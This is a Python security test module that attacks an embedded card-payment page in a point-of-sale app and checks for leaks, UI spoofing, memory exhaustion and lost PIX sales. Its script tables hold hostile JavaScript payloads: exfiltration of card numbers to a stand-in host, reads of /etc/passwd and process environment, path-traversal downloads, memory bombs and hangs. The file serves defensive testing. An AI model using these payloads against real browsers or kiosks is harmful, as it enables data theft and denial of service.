"""A card page that has gone mad or over to somebody else, in the real window.

A leak: it reads something of the computer, or another host hears of it. Damage: it shows outside of its place,
covers total or charge key, writes to the disk or clipboard, takes memory beyond the ceiling, or the desk does not
sell by PIX afterwards.
"""

from __future__ import annotations

import contextlib
import functools
import json
import os
import re
import struct
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.campaigns.intruder import memory
from tests.campaigns.intruder.ground import Reply, Seen
from tests.campaigns.intruder.kinds import Attack, Ground
from tests.campaigns.intruder.window import Desk, desk, until

CANARY = "what the clerk copied 7714"
MOST = 1500 << 20
"""Bytes that desk and page may hold together while the page takes what it gets: 1 GB for the page."""
_TOTAL = (1090, 596, 1356, 736)
"""Where total and charge key stand on a screen of 1366 by 768."""
_PAGE = """<!doctype html><meta charset=utf-8><title>card</title><body style="background:#fff"><input id=i><script>
window.cardSession = () => {}; window.cardLanguage = () => {}; window.cardPageReady = true;
window.dispatchEvent(new CustomEvent("card-page-ready"));
const tell = (value) => fetch("/card/told", {method: "POST", body: String(value).slice(0, 20000)}).catch(() => {});
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
window.answer = (detail) => window.dispatchEvent(new CustomEvent("card-tokenized", {detail}));
const Run = Object.getPrototypeOf(async function () {}).constructor;
(async () => { for (;;) {
  try { const text = await (await fetch("/card/next")).text();
    if (text) { try { tell(await new Run(text)()); } catch (error) { tell("error " + error); } }
  } catch {} await sleep(250); } })();
</script>"""


class Elsewhere:
    """A host that the page has no business with."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("access-control-allow-origin", "*")
                self.send_header("content-type", "text/html")
                self.end_headers()
                with contextlib.suppress(OSError):
                    self.wfile.write(b"<h1>elsewhere</h1>")

            do_POST = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self._server.daemon_threads = True
        self.address = f"http://127.0.0.2:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()


class Mad:
    """A desk whose card page runs whatever it is given."""

    def __init__(self, ground: Ground, stack: contextlib.ExitStack) -> None:
        self.ground = ground
        self.shop = ground.new_shop()
        self.elsewhere = Elsewhere()
        self.told: list[str] = []
        self.asked = 0
        self._next = ""
        self.provider = self.shop.provider
        self.provider.rules[:] = [self._rule]
        self.bin = self.shop.folder / "bin"
        self.bin.mkdir()
        for name in ("xdg-open", "gio", "gvfs-open", "kde-open", "x-www-browser", "lp", "lpr"):
            (self.bin / name).write_text(f'#!/bin/sh\necho "{name} $@" >> {self.bin}/opened\n')
            (self.bin / name).chmod(0o755)
        env = {"PATH": f"{self.bin}:{os.environ['PATH']}"}
        self.desk = stack.enter_context(desk(ground.display, self.shop, env))
        self.at = ground.display
        memory.opened(self.desk)
        self.desk.to_payment()
        until(lambda: self.asked > 3, "the mad page")
        time.sleep(1)

    def _rule(self, asked: Seen) -> Reply | None:
        path = asked.path.split("?")[0]
        if path == "/card":
            return Reply(200, {"content-type": "text/html"}, _PAGE.encode())
        if path == "/card/next":
            self.asked += 1
            text, self._next = self._next, ""
            return Reply(200, {"content-type": "text/plain"}, text.encode())
        if path == "/card/told":
            self.told.append(asked.body.decode("utf-8", "replace"))
            return Reply(200)
        if path == "/card/endless":
            return Reply(raw=_endless)
        if path == "/card/away":
            return Reply(302, {"location": f"{self.elsewhere.address}/away"})
        if path == "/card/worker.js":
            return Reply(200, {"content-type": "text/javascript"}, b"self.onfetch=()=>{};let a=[];for(let i=0;i<50;i++)a.push(new Uint8Array(1<<20).fill(1));setInterval(()=>a.length,1000)")
        return None

    def run(self, script: str, seconds: float = 6) -> list[str]:
        """Let the page run a script, give it a click and a key; return what it tells."""
        mark = len(self.told)
        self._next = script.replace("ELSEWHERE", self.elsewhere.address)
        end = time.monotonic() + 15
        while self._next and time.monotonic() < end:
            time.sleep(0.1)
        time.sleep(0.5)
        self.at.hands("mousemove", "790", "560", "click", "1")
        self.at.press("a")
        end = time.monotonic() + seconds
        while len(self.told) == mark and time.monotonic() < end:
            time.sleep(0.1)
        time.sleep(1.5)
        return self.told[mark:]

    def total(self) -> bytes:
        """Return the picture of total and charge key."""
        dump = (self.at.screen / "Xvfb_screen0").read_bytes()
        head = struct.unpack(">25I", dump[:100])
        start, line = head[0] + head[19] * 12, head[12]
        left, top, right, bottom = _TOTAL
        return b"".join(dump[start + y * line + left * 4 : start + y * line + right * 4] for y in range(top, bottom))

    def windows(self) -> set[str]:
        return set(self.at.hands("search", "--onlyvisible", "--name", ".*").split())

    def size(self) -> int:
        """Return the bytes of all files of the shop and its home."""
        return sum(one.stat().st_size for one in self.shop.folder.rglob("*") if one.is_file())

    def lives(self) -> bool:
        before = self.asked
        end = time.monotonic() + 3
        while self.asked == before and time.monotonic() < end:
            time.sleep(0.1)
        return self.asked > before

    def sells(self) -> list[str]:
        """Sell this hold by PIX."""
        before = len(self.provider.orders())
        if not self.desk.alive():
            return [f"the desk is dead: {self.desk.log.read_text(errors='replace')[-300:]}"]
        self.at.hands("mousemove", "1220", "400")
        for way in ("keys", "F6 first", "Escape first", "mouse"):
            if way == "mouse":  # No keyboard at all is left.
                self.at.hands("mousemove", "790", "180", "click", "1")
            else:
                self.at.press(*{"keys": (), "F6 first": ("F6",), "Escape first": ("Escape",)}[way], "ctrl+2")
            time.sleep(1.5)
            self.at.press("F10")
            end = time.monotonic() + 6
            while time.monotonic() < end:
                if len(self.provider.orders()) > before:
                    return [] if way in ("keys", "F6 first") else [f"the keyboard was lost: sold only by {way}"]
                time.sleep(0.2)
        self.at.picture(Path("/tmp") / f"intruder-stuck-{os.getpid()}.xwd")
        return ["PIX does not sell this hold any more by Ctrl+2 and F10"]


def mad(ground: Ground) -> Mad:
    there = ground.kept.get("mad")
    if there is None or not there.desk.alive() or not there.lives():
        if there is not None:
            there.desk.stop()
        stack = contextlib.ExitStack()
        ground.stack.push(stack)
        there = ground.kept["mad"] = Mad(ground, stack)
    there.provider.rules[:] = [there._rule]
    return there  # type: ignore[no-any-return]


_OWN = """
import sys
from PySide6.QtGui import QClipboard
from PySide6.QtWidgets import QApplication
app = QApplication([])
for mode in (QClipboard.Mode.Clipboard, QClipboard.Mode.Selection):
    app.clipboard().setText(sys.argv[1], mode)
print("ready", flush=True)
app.exec()
"""


@contextlib.contextmanager
def _clipboard(display: str, text: str) -> Any:
    """Hold clipboard and selection, as the program in which the clerk copied something."""
    env = {**os.environ, "DISPLAY": display, "QT_QPA_PLATFORM": "xcb"}
    one = subprocess.Popen([sys.executable, "-c", _OWN, text], env=env, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    assert one.stdout is not None
    one.stdout.readline()
    try:
        yield
    finally:
        one.kill()
        one.wait()


def _play(script: str, seconds: float, ground: Ground, told: dict[str, Any]) -> list[str]:
    """Run a script and judge what is the same for each of them."""
    one = mad(ground)
    total, windows, size = one.total(), one.windows(), one.size()
    heard = len(one.elsewhere.heard)
    with _clipboard(one.at.name, CANARY):
        answers = one.run(script, seconds)
        copied = memory.clipboards(one.at.name)
    told |= {"told": answers[:3], "memory": one.desk.memory() >> 20, "page lives": one.lives()}
    wrong = []
    if not one.desk.alive():
        return [f"the desk died: {one.desk.log.read_text(errors='replace')[-300:]}"]
    if any(CANARY in answer for answer in answers):
        wrong.append("the page read the clerk's clipboard")
    if copied.count(CANARY) < 2:
        wrong.append(f"the clerk's clipboard or selection was changed: {copied[:200]}")
    if new := one.windows() - windows:
        names = [one.at.hands("getwindowname", window) for window in new]
        wrong.append(f"windows appeared: {names}")
    if one.total() != total:
        time.sleep(3)
        if one.total() != total and one.lives():
            one.at.picture(Path("/tmp") / f"intruder-cover-{len(one.told)}.xwd")
            wrong.append("total or charge key look otherwise than before")
    if one.size() - size > 20 << 20:
        wrong.append(f"{one.size() - size >> 20} MB were written to the disk")
    if one.elsewhere.heard[heard:]:
        wrong.append(f"another host heard {one.elsewhere.heard[heard:][:3]}")
    if (opened := one.bin / "opened").exists():
        wrong.append(f"another program was started: {opened.read_text()[:200]}")
        opened.unlink()
    if any("GRANTED" in answer for answer in answers):
        wrong.append(f"the page was granted something: {answers[0][:200]}")
    if one.desk.memory() > MOST:
        wrong.append(f"{one.desk.memory() >> 20} MB")
    return wrong


def _last(ground: Ground, told: dict[str, Any]) -> list[str]:
    """Sell by PIX at the desk at which all this happened."""
    one = mad(ground)
    wrong = one.sells()
    ground.kept.pop("mad").desk.stop()
    return wrong


def _starved(script: str, seconds: float, ground: Ground, told: dict[str, Any]) -> list[str]:
    """Let a page take what it can at a desk of its own; watch memory, and sell by PIX."""
    with contextlib.ExitStack() as stack:
        one = Mad(ground, stack)
        before = one.desk.memory()
        one._next = script
        most, end = 0, time.monotonic() + seconds
        while time.monotonic() < end:
            most = max(most, one.desk.memory())
            if most > 3 << 30:  # It proved enough; this computer is shared.
                break
            time.sleep(0.2)
        told |= {"before": before >> 20, "most": most >> 20, "after": one.desk.memory() >> 20}
        wrong = [f"{most >> 20} MB in {seconds} s"] if most > MOST else []
        one.at.picture(Path("/tmp") / f"intruder-after-{os.getpid()}.xwd")
        if one.desk.memory() > MOST and one.lives():
            wrong.append("it goes on")
        return wrong + one.sells()


_SCRIPTS: dict[str, str] = {
    "window.open": "const w = window.open('/card/told', '_blank', 'width=300,height=300'); onclick = () => tell(!!window.open('about:blank')); return !!w",
    "links in new windows": "const a = document.createElement('a'); a.href = 'ELSEWHERE/link'; a.target = '_blank'; a.textContent = 'X'.repeat(2000); document.body.append(a); a.click(); onclick = () => a.click(); return 1",
    "middle click": "const a = document.createElement('a'); a.href = 'ELSEWHERE/middle'; a.style = 'position:fixed;inset:0'; document.body.append(a); a.dispatchEvent(new MouseEvent('click', {button: 1, ctrlKey: true, bubbles: true})); await sleep(500); a.remove(); return 1",
    "file chooser": "const i = document.createElement('input'); i.type = 'file'; i.multiple = true; document.body.append(i); const f = () => i.click(); onclick = f; onkeydown = f; f(); try { await Promise.race([showOpenFilePicker(), sleep(800)]) } catch (e) { return 'refused ' + e } return 1",
    "folder chooser": "onclick = async () => { try { await showDirectoryPicker(); tell('folder GRANTED') } catch (e) { tell('refused ' + e) } }; return 1",
    "save dialogue": "onclick = async () => { try { const f = await showSaveFilePicker(); tell('file GRANTED') } catch (e) { tell('refused ' + e) } }; return 1",
    "colour and date choosers": "for (const t of ['color','date','time','month']) { const i = document.createElement('input'); i.type = t; document.body.append(i); onclick = () => { try { i.showPicker() } catch {} } } await sleep(2500); return 1",
    "print": "print(); onclick = () => print(); await sleep(1500); return 1",
    "fullscreen": "const f = async () => { try { await document.documentElement.requestFullscreen(); tell('fullscreen GRANTED ' + innerWidth) } catch (e) { tell('refused ' + e) } }; onclick = f; onkeydown = f; await f(); return 1",
    "picture in picture": "const v = document.createElement('video'); onclick = async () => { try { await documentPictureInPicture.requestWindow(); tell('GRANTED') } catch (e) { tell('refused ' + e) } }; return 1",
    "pointer and keyboard lock": "onclick = async () => { try { await document.body.requestPointerLock(); await sleep(400); if (document.pointerLockElement) tell('pointer GRANTED') } catch (e) { tell('' + e) } try { await navigator.keyboard.lock(); } catch (e) {} }; await sleep(1500); return 1",
    "clipboard read": "const f = async () => { try { tell('read ' + await navigator.clipboard.readText()) } catch (e) { tell('refused ' + e) } try { for (const one of await navigator.clipboard.read()) tell(await (await one.getType('text/plain')).text()) } catch (e) {} }; onclick = f; onkeydown = f; await f(); return 1",
    "paste command": "const i = document.getElementById('i'); onclick = () => { i.focus(); document.execCommand('paste'); tell('pasted ' + i.value) }; i.focus(); document.execCommand('paste'); return 'pasted ' + i.value",
    "clipboard write": "const f = async () => { try { await navigator.clipboard.writeText('4111111111111111'); tell('wrote') } catch (e) { tell('refused ' + e) } }; onclick = f; onkeydown = f; await f(); return 1",
    "copy command": "const i = document.getElementById('i'); i.value = '5555341244441115'; const f = () => { i.select(); tell('copy ' + document.execCommand('copy') + document.execCommand('cut')) }; onclick = f; onkeydown = f; f(); return 1",
    "copy event": "oncopy = (e) => { e.clipboardData.setData('text/plain', '5555341244441115'); e.preventDefault() }; onclick = () => { getSelection().selectAllChildren(document.body); document.execCommand('copy') }; await sleep(2000); return 1",
    "copy in an opened frame": "const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.open(); f.contentDocument.write('<body><textarea id=t>5555341244441115</textarea><script>const g=()=>{t.select();document.execCommand(\"copy\");getSelection().selectAllChildren(document.body);document.execCommand(\"copy\")};g();onclick=onkeydown=g<\\/script>'); f.contentDocument.close(); f.style = 'position:fixed;inset:0;width:100%;height:100%'; await sleep(3000); f.remove(); return 1",
    "copy in a frame of srcdoc": "const f = document.createElement('iframe'); f.srcdoc = '<input id=t value=5555341244441115><script>const g=()=>{t.select();document.execCommand(\"copy\")};g();onclick=onkeydown=g<\\/script>'; f.style = 'position:fixed;inset:0;width:100%;height:100%'; document.body.append(f); await sleep(3000); f.remove(); return 1",
    "copy in a shadow tree": "const h = document.createElement('div'); document.body.append(h); const s = h.attachShadow({mode: 'closed'}); s.innerHTML = '<input value=5555341244441115>'; const g = () => { s.firstChild.select(); document.execCommand('copy') }; g(); onclick = onkeydown = g; await sleep(2500); return 1",
    "copy in a frame of a frame": "const mk = (d) => { const f = d.createElement('iframe'); d.body.append(f); f.contentDocument.open(); f.contentDocument.write('<body>5555341244441115'); f.contentDocument.close(); f.style='width:400px;height:300px'; return f.contentDocument }; const d = mk(mk(mk(document))); d.defaultView.getSelection().selectAllChildren(d.body); d.execCommand('copy'); onclick = () => { d.defaultView.getSelection().selectAllChildren(d.body); d.execCommand('copy') }; await sleep(2500); document.querySelectorAll('iframe').forEach((f) => f.remove()); return 1",
    "select list": "const s = document.createElement('select'); for (let n = 0; n < 400; n++) s.append(new Option('W'.repeat(300) + n)); s.style = 'position:fixed;left:300px;top:380px;width:200px;height:60px;font-size:30px'; document.body.append(s); s.focus(); onclick = () => { try { s.showPicker() } catch (e) { tell('' + e) } }; await sleep(2500); return 1",
    "list of suggestions": "const i = document.getElementById('i'); const d = document.createElement('datalist'); d.id = 'd'; for (let n = 0; n < 200; n++) d.append(new Option('a' + 'W'.repeat(200) + n)); document.body.append(d); i.setAttribute('list', 'd'); i.style = 'position:fixed;left:20px;top:400px;width:500px;font-size:30px'; i.focus(); onclick = () => { try { i.showPicker() } catch (e) {} }; await sleep(2500); i.removeAttribute('list'); return 1",
    "tooltip": "document.body.title = 'Cobrar R$ 1,00 '.repeat(3000); document.body.style.height = '100vh'; await sleep(4000); document.body.title = ''; return 1",
    "popover over everything": "const p = document.createElement('dialog'); p.style = 'position:fixed;inset:-4000px;width:9000px;height:9000px;background:red'; document.body.append(p); p.showModal(); await sleep(1000); p.close(); return 1",
    "context menu": "onclick = () => 0; oncontextmenu = null; return 1",
    "notifications": "let said = ''; try { said = await Notification.requestPermission(); new Notification('Cobrar R$ 1,00') } catch (e) { said = '' + e } return said === 'granted' ? 'GRANTED' : said",
    "permissions": "const got = []; for (const name of ['camera','microphone','geolocation','notifications','clipboard-read','clipboard-write','midi','persistent-storage','local-fonts','window-management','idle-detection','screen-wake-lock','storage-access','display-capture']) { try { const s = (await navigator.permissions.query({name})).state; if (s === 'granted') got.push(name) } catch {} } const bad = got.filter((n) => !['persistent-storage','screen-wake-lock','storage-access'].includes(n)); return bad.length ? 'GRANTED ' + bad : 'none ' + got",
    "camera and microphone": "try { await navigator.mediaDevices.getUserMedia({audio: true, video: true}); return 'GRANTED' } catch (e) { return '' + e }",
    "picture of the screen": "const f = async () => { try { await navigator.mediaDevices.getDisplayMedia({video: true}); tell('GRANTED screen') } catch (e) { tell('' + e) } }; onclick = f; await sleep(2500); return 1",
    "devices": "const said = []; onclick = async () => { for (const [n, f] of [['usb', () => navigator.usb.requestDevice({filters: []})], ['serial', () => navigator.serial.requestPort()], ['hid', () => navigator.hid.requestDevice({filters: []})], ['bluetooth', () => navigator.bluetooth.requestDevice({acceptAllDevices: true})], ['midi', () => navigator.requestMIDIAccess({sysex: true})]]) { try { await Promise.race([f(), sleep(500).then(() => { throw 'nothing' })]); tell(n + ' GRANTED') } catch (e) { said.push(n + ' ' + e) } } }; await sleep(3500); return said.join('; ').slice(0, 300)",
    "place": "return await new Promise((done) => { navigator.geolocation.getCurrentPosition(() => done('GRANTED'), (e) => done('refused ' + e.message)); setTimeout(() => done('nothing'), 4000) })",
    "addresses by WebRTC": "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.2:3478'}]}); p.createDataChannel('x'); const found = []; p.onicecandidate = (e) => e.candidate && found.push(e.candidate.candidate); await p.setLocalDescription(await p.createOffer()); await sleep(2500); const bare = found.filter((c) => / (\\d+\\.){3}\\d+ /.test(c)); return bare.length ? 'GRANTED addresses ' + bare[0] : 'none of ' + found.length } catch (e) { return '' + e }",
    "other hosts": "const u = 'ELSEWHERE'; fetch(u + '/fetch', {mode: 'no-cors'}).catch(() => {}); navigator.sendBeacon(u + '/beacon', 'n=4111'); new Image().src = u + '/image?n=4111'; for (const [t, k] of [['script','src'],['iframe','src'],['embed','src'],['video','src'],['audio','src']]) { const e = document.createElement(t); e[k] = u + '/' + t; document.body.append(e) } for (const r of ['stylesheet','preload','prefetch','preconnect','dns-prefetch','icon','manifest','modulepreload','prerender']) { const l = document.createElement('link'); l.rel = r; l.as = 'script'; l.href = u + '/' + r; document.head.append(l) } const o = document.createElement('object'); o.data = u + '/object'; document.body.append(o); const st = document.createElement('style'); st.textContent = `@import \"${u}/import\"; @font-face {font-family: q; src: url(${u}/font)} body {font-family: q; background: url(${u}/background); cursor: url(${u}/cursor), auto}`; document.head.append(st); try { new WebSocket(u.replace('http', 'ws') + '/socket') } catch {} try { new EventSource(u + '/events') } catch {} try { new WebTransport(u.replace('http:', 'https:') + '/transport') } catch {} const f = document.createElement('form'); f.action = u + '/form'; f.method = 'post'; const fr = document.createElement('iframe'); fr.name = 'z'; document.body.append(fr); f.target = 'z'; document.body.append(f); f.submit(); const a = document.createElement('a'); a.ping = u + '/ping'; a.href = '#x'; document.body.append(a); a.click(); await sleep(2500); return 1",
    "other host by redirect": "try { await fetch('/card/away') } catch (e) {} new Image().src = '/card/away?i'; const f = document.createElement('iframe'); f.src = '/card/away?f'; document.body.append(f); await sleep(2000); return 1",
    "other host by a speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['ELSEWHERE/speculated']}], prerender: [{source: 'list', urls: ['ELSEWHERE/prerendered']}]}); document.head.append(s); await sleep(2000); return 1",
    "this computer": "const said = []; for (const u of ['http://127.0.0.1:9/', 'http://localhost:631/', 'file:///etc/passwd', 'file:///proc/self/environ', 'chrome://version', 'qrc:/', 'data:text/plain,x']) { try { const r = await fetch(u); const t = await r.text(); if (u.startsWith('file') && t.length) said.push('GRANTED ' + u) } catch (e) {} } return said.join() || 'none'",
    "frames of files": "for (const u of ['file:///etc/passwd', 'view-source:file:///etc/passwd', 'chrome://gpu', 'qrc:///', 'ftp://127.0.0.2/']) { const f = document.createElement('iframe'); f.src = u; document.body.append(f); await sleep(200); try { if (f.contentDocument && f.contentDocument.body && f.contentDocument.body.innerText.includes('root:')) return 'GRANTED ' + u } catch {} } return 'none'",
    "custom protocols": "for (const u of ['mailto:a@b.c', 'tel:123', 'guiche:x', 'sms:1', 'whatsapp://send?text=1', 'steam://run/1', 'vscode://x', 'magnet:?x', 'ms-settings:', 'x-apt:vim']) { const f = document.createElement('iframe'); f.src = u; document.body.append(f); const a = document.createElement('a'); a.href = u; document.body.append(a); onclick = () => a.click(); await sleep(150) } await sleep(1500); try { navigator.registerProtocolHandler('web+card', '/card?%s', 'x') } catch (e) {} return 1",
    "endless download": "const a = document.createElement('a'); a.href = '/card/endless'; a.download = '../../../x.sh'; document.body.append(a); a.click(); onclick = () => a.click(); const b = document.createElement('a'); b.href = URL.createObjectURL(new Blob([new Uint8Array(6e7)])); b.download = 'bashrc'; document.body.append(b); b.click(); await sleep(4000); return 1",
    "endless reply": "fetch('/card/endless').then((r) => r.text()).catch(() => {}); await sleep(3000); return 1",
    "history": "for (let n = 0; n < 3000; n++) { try { history.pushState(n, '', '#' + n) } catch { break } } history.go(-2); await sleep(500); history.forward(); return history.length",
    "service worker": "try { const r = await navigator.serviceWorker.register('/card/worker.js', {scope: '/card'}); await sleep(1000); return 'registered ' + !!r } catch (e) { return '' + e }",
    "storage": "try { localStorage.n = '4111111111111111'; document.cookie = 'n=4111111111111111; max-age=99999999'; const d = await new Promise((ok, no) => { const o = indexedDB.open('x'); o.onupgradeneeded = () => o.result.createObjectStore('s'); o.onsuccess = () => ok(o.result); o.onerror = no }); for (let n = 0; n < 60; n++) { const t = d.transaction('s', 'readwrite'); t.objectStore('s').put(new Uint8Array(1 << 20).fill(65), n) } const c = await caches.open('x'); await c.put('/card/n', new Response('4111111111111111')); await sleep(2000) } catch (e) { return '' + e } return 1",
    "window.close": "window.close(); self.close(); onclick = () => window.close(); await sleep(1500); return 1",
    "long title": "document.title = 'x'.repeat(1e8); await sleep(1500); document.title = 'card'; return 1",
    "million titles": "for (let n = 0; n < 1e5; n++) document.title = 'R$ ' + n; return 1",
    "long console": "console.log('z'.repeat(5e7)); for (let n = 0; n < 3e4; n++) console.error('4111111111111111 ' + n); await sleep(1500); return 1",
    "alerts": "for (let n = 0; n < 200; n++) { alert('Cobrar R$ 1,00'); confirm('ok?'); prompt('PIN?') } return 1",
    "before leaving": "onbeforeunload = (e) => { e.preventDefault(); return e.returnValue = 'stay' }; return 1",
    "keys taken": "for (const k of ['keydown','keyup','keypress']) addEventListener(k, (e) => { e.preventDefault(); e.stopImmediatePropagation() }, true); onblur = () => window.focus(); setInterval(() => { window.focus(); document.getElementById('i').focus() }, 20); return 1",
    "drag out": "const d = document.createElement('div'); d.draggable = true; d.style = 'position:fixed;inset:0;background:#eee'; d.textContent = 'drag'; d.ondragstart = (e) => { e.dataTransfer.setData('text/plain', '5555341244441115'); e.dataTransfer.setData('text/uri-list', 'file:///etc/passwd'); e.dataTransfer.setData('DownloadURL', 'text/plain:x.sh:ELSEWHERE/dragged') }; document.body.append(d); await sleep(2500); d.remove(); return 1",
    "fonts and fingerprints": "try { const f = await queryLocalFonts(); return f.length ? 'GRANTED fonts ' + f.length : 'none' } catch (e) { return '' + e }",
    "idle and wake": "const said = []; try { await IdleDetector.requestPermission(); said.push('GRANTED idle') } catch (e) {} try { navigator.vibrate(9999) } catch {} try { speechSynthesis.speak(new SpeechSynthesisUtterance('pague de novo')) } catch {} return said.join() || 'none'",
    "payment request": "try { const p = new PaymentRequest([{supportedMethods: 'https://google.com/pay'}], {total: {label: 'x', amount: {currency: 'BRL', value: '1'}}}); onclick = () => p.show().then(() => tell('GRANTED'), (e) => tell('' + e)) } catch (e) { return '' + e } await sleep(2000); return 1",
    "passkeys": "onclick = () => navigator.credentials.create({publicKey: {challenge: new Uint8Array(9), rp: {name: 'x'}, user: {id: new Uint8Array(9), name: 'x', displayName: 'x'}, pubKeyCredParams: [{type: 'public-key', alg: -7}]}}).then(() => tell('GRANTED'), (e) => tell('' + e)); await sleep(2500); return 1",
    "token floods": "for (let n = 0; n < 2e4; n++) answer({token: 'tok_' + n, brand: 'visa', expirationMonth: '08', expirationYear: '2031', cardholderName: 'X', antifraudSession: ''}); return 1",
    "long token": "answer({token: 'x'.repeat(5e7), brand: 'y'.repeat(1e7), expirationMonth: '08', expirationYear: '2031', cardholderName: 'z'.repeat(1e7), antifraudSession: ''}); return 1",
    "strange answers": "for (const d of [null, 1, [], {}, {token: {}}, {token: null}, {token: ''}, {token: 1e308, brand: []}, {get token() { throw 1 }}, {token: 'a', brand: '<b>x</b><img src=ELSEWHERE/brand>', expirationMonth: '99', expirationYear: '-1', cardholderName: '\\u0000\\ud800', antifraudSession: '\\n\\r'}, new Proxy({}, {get: () => answer})]) { try { answer(d) } catch {} } return 1",
    "away": "location.href = 'ELSEWHERE/gone'; await sleep(1500); return 1",
    "away to a file": "location.href = 'file:///etc/passwd'; await sleep(800); location.href = 'chrome://crash'; await sleep(500); location.href = 'chrome://kill'; location.href = 'data:text/html,<h1>x'; location.href = 'view-source:' + location; await sleep(800); return 1",
    "away by refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=ELSEWHERE/refresh'; document.head.append(m); await sleep(2000); return 1",
    "away to itself for ever": "setTimeout(() => { location.href = '/card/away' }, 300); return 1",
}  # fmt: skip


def _endless(write: Any) -> None:
    write(b"HTTP/1.1 200 OK\r\ncontent-type: application/octet-stream\r\ncontent-disposition: attachment; filename=../../x.sh\r\n\r\n")
    end = time.monotonic() + 6
    while time.monotonic() < end:
        write(b"x" * (1 << 20))


_HUNGRY = {
    "memory bomb of arrays": "window.a = []; for (;;) { window.a.push(new Uint8Array(1 << 24).fill(7)); if (window.a.length % 8 === 0) await sleep(1) }",
    "memory bomb at once": "const a = []; for (;;) a.push(new Float64Array(1 << 21).fill(Math.random()))",
    "memory bomb of strings": "let s = 'x'; const a = []; for (;;) { a.push(s.repeat(1 << 22) + a.length); a.at(-1).charCodeAt(99) }",
    "memory bomb of workers": "const code = URL.createObjectURL(new Blob(['let a=[];setInterval(()=>{a.push(new Uint8Array(8<<20).fill(1))},20)'])); for (let n = 0; n < 300; n++) { new Worker(code); await sleep(5) } await sleep(60000)",
    "memory bomb of canvases": "const a = []; for (;;) { const c = document.createElement('canvas'); c.width = c.height = 4096; c.getContext('2d').fillRect(0, 0, 4096, 4096); document.body.append(c); a.push(c); await sleep(10) }",
    "memory bomb of blobs": "const a = []; for (;;) { a.push(new Blob([new Uint8Array(32 << 20).fill(3)])); await sleep(20) }",
    "memory bomb of frames": "for (let n = 0; n < 3000; n++) { const f = document.createElement('iframe'); f.srcdoc = '<script>window.a=new Uint8Array(4<<20).fill(1)<\\/script>'; document.body.append(f); if (n % 20 === 0) await sleep(1) } await sleep(60000)",
    "memory bomb of wasm": "const a = []; for (;;) { const m = new WebAssembly.Memory({initial: 800, maximum: 65536}); new Uint8Array(m.buffer).fill(1); a.push(m); await sleep(5) }",
    "memory bomb of elements": "for (;;) { document.body.insertAdjacentHTML('beforeend', '<p title=x>x</p>'.repeat(20000)); await sleep(1) }",
    "hang": "for (;;);",
    "hang of expressions": "/^(a+)+$/.test('a'.repeat(60) + 'b')",
    "hang of workers": "for (let n = 0; n < 200; n++) new Worker(URL.createObjectURL(new Blob(['for(;;);']))); await sleep(60000)",
    "hang of reloads": "location.reload(); for (;;) { history.go(0); await sleep(1) }",
}  # fmt: skip

ATTACKS: dict[str, Attack] = {
    **{
        f"page: {name}": Attack(functools.partial(_play, script, 6), "it gets something, or shows out of its place")
        for name, script in _SCRIPTS.items()
    },
    "page: sold after all that": Attack(_last, "PIX does not sell"),
    **{
        f"hungry page: {name}": Attack(functools.partial(_starved, script, 40), "over the ceiling, or PIX does not sell")
        for name, script in _HUNGRY.items()
    },
}
